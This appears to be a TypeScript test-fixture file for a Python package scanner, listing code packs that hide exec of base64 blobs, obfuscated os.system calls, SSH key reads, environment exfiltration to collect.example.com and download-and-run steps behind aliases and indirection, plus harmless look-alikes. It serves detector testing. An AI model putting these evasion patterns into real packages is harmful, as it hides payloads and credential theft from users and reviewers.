import type { Files } from '../entries.ts'

/**
 * Evasions: what the rule finds in one plain file is spread over several, or led through names, items, calls and
 * defaults. `__init__.py` begins with an import of base64.
 */
export interface PackCase {
  rule: string
  files: Files
}

const RUN = 'run(base64.b64decode(BLOB))'

/** Files given as a text are `helper.py` alone. */
const other = (rule: string, init: string, files: string | Files = {}): PackCase => ({
  rule,
  files: {
    ...(typeof files === 'string' ? { 'helper.py': `${files}\n` } : files),
    '__init__.py': `import base64\n${init}\n`,
  },
})

const decoded = (init: string, files?: string | Files): PackCase =>
  other('exec-decoded', init, files)

const RUNS = 'run = exec'
const DECODES = 'from base64 import b64decode as d'

export const EVASIONS: readonly PackCase[] = [
  // Modules and decoders that another file imports.
  decoded('from .helper import *\nexec(b.b64decode(BLOB))', 'import base64 as b'),
  decoded('from .helper import b\nexec(b.b64decode(BLOB))', 'import base64 as b'),
  decoded('from .helper import base64 as b\nexec(b.b64decode(BLOB))', 'import base64'),
  decoded('from .helper import d\nexec(d(BLOB))', DECODES),
  decoded('from .helper import *\nexec(b64decode(BLOB))', 'from base64 import *'),
  decoded('from .helper import d\nexec(d(BLOB))', 'import base64\nd = base64.b64decode'),
  decoded('from . import helper\nexec(helper.d(BLOB))', DECODES),
  decoded('from . import helper as h\nexec(h.b.b64decode(BLOB))', 'import base64 as b'),
  decoded('import helper\nexec(helper.d(BLOB))', DECODES),
  decoded('import sys\nsys.path.append("lib")\nfrom deep import d\nexec(d(BLOB))', {
    'lib/deep.py': 'from base64 import b64decode as d\n',
  }),
  // A file that hides a library.
  decoded('import base64\nexec(base64.b64decode(BLOB))', { 'base64.py': '' }),
  // Another name of exec, and packages that pass it on.
  decoded(`from .helper import run\n${RUN}`, RUNS),
  decoded(`from .helper import start as run\n${RUN}`, 'e = exec\nstart = e'),
  decoded(`from .pkg import run\n${RUN}`, {
    'pkg/__init__.py': 'from .deep import run\n',
    'pkg/deep.py': 'run = exec\n',
  }),
  decoded(`from .pkg import *\n${RUN}`, {
    'pkg/__init__.py': 'from .deep import *\n',
    'pkg/deep.py': 'run = exec\n',
  }),
  decoded('from .pkg import deep\ndeep.run(base64.b64decode(BLOB))', {
    'pkg/__init__.py': '',
    'pkg/deep.py': 'run = exec\n',
  }),
  decoded(
    `from .m8 import run\n${RUN}`,
    Object.fromEntries([
      ['m1.py', 'run = exec\n'],
      ...[2, 3, 4, 5, 6, 7, 8].map((at) => [`m${at}.py`, `from .m${at - 1} import *\n`]),
    ]) as Files,
  ),
  decoded(`from .a import run\n${RUN}`, {
    'a.py': 'from .b import *\nfrom .c import run\n',
    'b.py': 'from .a import *\n',
    'c.py': 'from .a import run\nfrom .b import run\nrun = exec\n',
  }),
  decoded('from .pkg.deep import go', {
    'helper.py': 'run = exec\n',
    'pkg/deep.py': `import base64\nfrom ..helper import run\ndef go():\n    ${RUN}\n`,
  }),
  // Names and modules that are texts.
  decoded('from . import helper\ngetattr(helper, "run")(base64.b64decode(BLOB))', RUNS),
  decoded(
    'from . import helper\ngetattr(helper, "".join(["r", "un"]))(base64.b64decode(BLOB))',
    RUNS,
  ),
  decoded('getattr(base64, "nothing", exec)(base64.b64decode(BLOB))'),
  decoded('__import__("helper").run(base64.b64decode(BLOB))', RUNS),
  decoded(
    '__import__(__package__ + ".helper", fromlist=["run"]).run(base64.b64decode(BLOB))',
    RUNS,
  ),
  decoded(
    'import importlib\nimportlib.import_module(".helper", __package__).run(base64.b64decode(BLOB))',
    RUNS,
  ),
  decoded(
    'from importlib import import_module as im\nh = im(f"{__package__}.helper")\nh.run(base64.b64decode(BLOB))',
    RUNS,
  ),
  decoded(
    'import importlib\nimportlib.import_module(name="builtins").exec(base64.b64decode(BLOB))',
  ),
  decoded(
    'from .helper import get\nget("builtins").exec(base64.b64decode(BLOB))',
    'import importlib\ndef get(n):\n    return importlib.import_module(n)',
  ),
  decoded(
    'import importlib.util, os\ns = importlib.util.spec_from_file_location("x", os.path.join(os.path.dirname(__file__), "helper.py"))\nm = importlib.util.module_from_spec(s)\ns.loader.exec_module(m)\nm.run(base64.b64decode(BLOB))',
    RUNS,
  ),
  decoded('run = exec\nglobals()["r" + "un"](base64.b64decode(BLOB))'),
  decoded('from .helper import *\nglobals()["run"](base64.b64decode(BLOB))', RUNS),
  // Attributes and globals that were set, and other ways to read them.
  decoded('class H: pass\nh = H()\nh.run = exec\nh.run(base64.b64decode(BLOB))'),
  decoded(
    'from . import helper\ndef f():\n    helper.run = exec\n    helper.run(base64.b64decode(BLOB))',
    'x = 1',
  ),
  decoded(
    'from . import helper\nsetattr(helper, "run", exec)\nhelper.run(base64.b64decode(BLOB))',
    'x = 1',
  ),
  decoded('globals()["run"] = exec\nrun(base64.b64decode(BLOB))'),
  decoded(
    'import builtins, operator\noperator.attrgetter("exec")(builtins)(base64.b64decode(BLOB))',
  ),
  decoded('run = exec\nglobals().get("run")(base64.b64decode(BLOB))'),
  decoded('from . import helper\nvars(helper)["run"](base64.b64decode(BLOB))', RUNS),
  decoded('from . import helper\nhelper.__dict__["run"](base64.b64decode(BLOB))', RUNS),
  decoded(
    'import sys\nfrom . import helper\nsys.modules[__name__ + ".helper"].run(base64.b64decode(BLOB))',
    RUNS,
  ),
  // Decorators.
  decoded('@exec\n@base64.b64decode\ndef payload(): pass'),
  decoded(
    'from .helper import run\n@run\n@lambda f: base64.b64decode(BLOB)\ndef payload(): pass',
    RUNS,
  ),
  decoded(
    `from .helper import swap\n@swap\ndef run(code): pass\n${RUN}`,
    'def swap(f):\n    return exec',
  ),
  // Default arguments and attributes of classes.
  decoded('def go(code, run=exec):\n    run(base64.b64decode(code))'),
  decoded(
    'from .helper import run as r\ndef go(code, run=r):\n    run(base64.b64decode(code))',
    RUNS,
  ),
  decoded('def go(code=base64.b64decode(BLOB)):\n    exec(code)'),
  decoded('(lambda code, run=exec: run(base64.b64decode(code)))(BLOB)'),
  decoded('class A:\n    run = exec\nA.run(base64.b64decode(BLOB))'),
  decoded('class A:\n    run = staticmethod(exec)\nA().run(base64.b64decode(BLOB))'),
  decoded(
    'from .helper import A\na = A()\na.run(base64.b64decode(BLOB))',
    'class A:\n    run = exec',
  ),
  decoded(
    'from .helper import A\nclass B(A):\n    def go(self):\n        self.run(base64.b64decode(BLOB))',
    'class A:\n    run = exec',
  ),
  decoded(
    'from .helper import A\nclass B(A):\n    def go(self):\n        exec(self.code)',
    'import base64\nclass A:\n    def __init__(self):\n        self.code = base64.b64decode(BLOB)',
  ),
  // Functions and methods that give exec, decode or run.
  decoded('from .helper import get\nget()(base64.b64decode(BLOB))', 'def get():\n    return exec'),
  decoded(
    'from .helper import unpack\nexec(unpack(BLOB))',
    'import base64\ndef unpack(s):\n    return base64.b64decode(s)',
  ),
  decoded(
    'from .helper import A\nexec(A().unpack(BLOB))',
    'import base64\nclass A:\n    def unpack(self, s):\n        return base64.b64decode(s)',
  ),
  decoded(
    'from .helper import apply\nexec(apply(base64.b64decode, BLOB))',
    'def apply(f, x):\n    return f(x)',
  ),
  decoded('from .helper import go\ngo(base64.b64decode(BLOB))', 'def go(code):\n    exec(code)'),
  decoded(
    'from .helper import go\ngo(code=base64.b64decode(BLOB))',
    'def inner(c, *rest):\n    exec(c, *rest)\ndef go(code):\n    inner(code, {})',
  ),
  decoded(
    'from .helper import go\ngo(exec, base64.b64decode(BLOB))',
    'def go(f, *args):\n    f(*args)',
  ),
  decoded(
    'from .helper import A\nA(base64.b64decode(BLOB))',
    'class A:\n    def __init__(self, code):\n        exec(code)',
  ),
  decoded('from .helper import CODE\nexec(CODE)', 'import base64\nCODE = base64.b64decode(BLOB)'),
  decoded(
    'from . import helper\nexec(helper.CODE)',
    'import base64\nCODE = base64.b64decode(BLOB)',
  ),
  // Tables, loops, partial functions and threads.
  decoded('T = {"a": exec, "b": print}\nT["a"](base64.b64decode(BLOB))'),
  decoded('from .helper import T\nT.get("a")(base64.b64decode(BLOB))', 'T = {"a": exec}'),
  decoded('from .helper import T\nT[0](base64.b64decode(BLOB))', 'T = [exec, eval]'),
  decoded('for f in (print, exec):\n    f(base64.b64decode(BLOB))'),
  decoded('from functools import partial\nrun = partial(exec)\nrun(base64.b64decode(BLOB))'),
  decoded('list(map(exec, [base64.b64decode(BLOB)]))'),
  decoded('import functools\nfunctools.partial(exec, base64.b64decode(BLOB))()'),
  decoded(
    'import threading\nthreading.Thread(target=exec, args=(base64.b64decode(BLOB),)).start()',
  ),
  decoded(
    'import threading\nfrom .helper import go\nthreading.Thread(target=go, args=[base64.b64decode(BLOB)]).start()',
    'def go(c):\n    exec(c)',
  ),
  decoded(
    'from .helper import A\nA.go(base64.b64decode(BLOB))',
    'class A:\n    @staticmethod\n    def go(code):\n        exec(code)',
  ),
  decoded(
    'from .helper import a\na.go(base64.b64decode(BLOB))',
    'class A:\n    def go(self, code):\n        exec(code)\na = A()',
  ),
  decoded(
    'from .helper import go\ngo(exec, base64, "b64decode")',
    'def go(f, m, n):\n    f(getattr(m, n)(BLOB))',
  ),
  decoded('exec.__call__(base64.b64decode(BLOB))'),
  decoded('exec = exec\nexec(base64.b64decode(BLOB))'),
  other(
    'exec-network',
    'from .helper import requests as r\nexec(r.get(u).text)',
    'import requests',
  ),
  other(
    'exec-network',
    'from .helper import fetch\nexec(fetch(u))',
    'import requests\ndef fetch(u):\n    return requests.get(u).text',
  ),
  other('hidden-call', 'import os\nfrom .helper import N\ngetattr(os, N)(c)', 'N = "sys" + "tem"'),
  other('hidden-call', 'import os\nfrom .helper import N\ngetattr(os, N + "tem")(c)', 'N = "sys"'),
  other(
    'hidden-call',
    'import os\nfrom .helper import turn\ngetattr(os, turn("metsys"))(c)',
    'def turn(s):\n    return s[::-1]',
  ),
  other('hidden-call', 'import os\nfrom .helper import g\ng(os, "sys" + "tem")(c)', 'g = getattr'),
  other(
    'credential-read',
    'from .helper import KEY\nopen(KEY)',
    'import os\nKEY = os.path.expanduser("~/.ssh/id_rsa")',
  ),
  other(
    'credential-read',
    'from .helper import read\nread("/root/.ssh/id_rsa")',
    'def read(p):\n    return open(p).read()',
  ),
  other(
    'credential-read',
    'from . import helper\nopen(helper.HOME + "/.ssh/" + helper.NAME)',
    'HOME = "/root"\nNAME = "id_rsa"',
  ),
  other(
    'exfiltration',
    'import os, requests\nfrom .helper import URL\nrequests.post(URL, json=dict(os.environ))',
    'URL = "https://collect.example.com/x"',
  ),
  other(
    'exfiltration',
    'import os\nfrom .helper import send\nsend("https://collect.example.com/x", json=dict(os.environ))',
    'from requests import post as send',
  ),
  other(
    'exfiltration',
    'import requests\nfrom .helper import data\nrequests.post("https://collect.example.com/x", json=data())',
    'import os\ndef data():\n    return dict(os.environ)',
  ),
  other(
    'download-run',
    'import os\nfrom .helper import get\nget(u, "a.exe")\nos.startfile("a.exe")',
    'from urllib.request import urlretrieve as get',
  ),
  other(
    'download-run',
    'import os, urllib.request\nfrom .helper import P\nurllib.request.urlretrieve(u, P)\nos.startfile(P)',
    'P = "a.exe"',
  ),
  other(
    'code-object',
    'import types\nfrom .helper import code\ntypes.FunctionType(code, {})',
    'import marshal\ncode = marshal.loads(B)',
  ),
  other(
    'code-object',
    'from .helper import F, code\nF(code, {})',
    'import marshal\nfrom types import FunctionType as F\ncode = marshal.loads(B)',
  ),
]

/** Packs of much the same look that hit no rule of high severity. */
export const HARMLESS: readonly PackCase[] = [
  decoded('from .helper import d\nicon = d(PNG)', DECODES),
  decoded('from .helper import *\nexec(base64.b64decode(BLOB))', 'def exec(x):\n    return x'),
  decoded(
    'from .helper import run, decode\nrun(open(p).read())\nicon = decode(PNG)',
    'import base64\ndef run(code):\n    exec(code)\ndef decode(s):\n    return base64.b64decode(s)',
  ),
  decoded('from .helper import run\nrun(base64.encodebytes(x))', 'def run(code):\n    eval(code)'),
  decoded(
    'from .helper import T\nimage = T["png"](text)',
    'import base64\nT = {"png": base64.b64decode, "text": str}',
  ),
  decoded('import os\nfrom .helper import N\ngetattr(os, N)(p)', 'N = "system"'),
  decoded(
    'import requests\nfrom .helper import URL\nrequests.post(URL, json={"prompt": p})',
    'URL = "https://collect.example.com/x"',
  ),
  decoded(
    'from .helper import A\nA().exec(base64.b64decode(q))',
    'class A:\n    def exec(self, sql):\n        return sql',
  ),
  decoded(
    'from .helper import deco\n@deco\n@base64.b64decode\ndef f(): pass',
    'def deco(f):\n    return f',
  ),
]
